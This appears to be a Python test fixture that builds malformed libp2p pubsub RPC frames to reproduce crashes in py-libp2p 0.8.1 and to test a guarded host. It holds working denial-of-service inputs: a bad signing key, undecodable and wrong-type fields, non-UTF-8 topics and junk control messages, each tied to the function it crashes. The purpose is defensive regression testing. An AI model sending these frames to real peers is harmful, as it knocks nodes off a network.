"""The frames that ended a py-libp2p 0.8.1 peer (issue 12), built for one hostile peer and topic.

Each is one pubsub RPC frame (serialised, not length-prefixed) for `HostilePeer.send_rpc_frame`.
scripts/repro_pubsub_crashes.py sends them to an unpatched Pubsub; tests/test_net_hostile.py to
our guarded host.
"""

from __future__ import annotations

from libp2p.pubsub.pb import rpc_pb2

from tests.hostile.hostile_peer import HostilePeer, pb_field_bytes, pb_field_varint


def killer_frames(hp: HostilePeer, topic: str) -> dict[str, bytes]:
    """name -> frame; each name says which upstream function fails on it."""
    # A from_id that is no identity multihash, with a key that is no protobuf PublicKey:
    # validators.signature_validator -> deserialize_public_key raises in push_msg's task.
    bad_key = hp.message_frame(topic, b"x", from_id=b"\x12\x20" + b"\x01" * 32,
                               signature=b"\x00" * 64, key=b"\xff\xfe garbage key")
    # An RPC whose publish field holds bytes that do not parse as a Message: RPC.ParseFromString
    # raises DecodeError, which continuously_read_stream and stream_handler do not catch.
    undecodable_field = pb_field_bytes(2, b"\x0a\xff\xff\xff\xff\x0f")
    garbage = b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01"
    # A wrong wire type where a message is expected (publish as a varint).
    wrong_type = pb_field_varint(2, 7)
    # A topic id that is not UTF-8 (a proto2 string): decoding may raise.
    bad_utf8 = pb_field_bytes(2, pb_field_bytes(4, b"\xff\xfe") + pb_field_bytes(2, b"x"))
    # Control: an IHAVE, IWANT, GRAFT and PRUNE with junk in them.
    control = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(
        ihave=[rpc_pb2.ControlIHave(topicID=topic, messageIDs=[b"\xff" * 40])],
        iwant=[rpc_pb2.ControlIWant(messageIDs=[b"\x00"])],
        graft=[rpc_pb2.ControlGraft(topicID=topic)],
        prune=[rpc_pb2.ControlPrune(topicID=topic, backoff=2**63,
                                    peers=[rpc_pb2.PeerInfo(peerID=b"\x00",
                                                            signedPeerRecord=b"\xff")])],
    )).SerializeToString()
    return {"push_msg: undecodable key": bad_key,
            "read loop: undecodable publish field": undecodable_field,
            "read loop: garbage frame": garbage,
            "read loop: wrong wire type": wrong_type,
            "read loop: topic not UTF-8": bad_utf8,
            "handle_rpc: junk control": control}
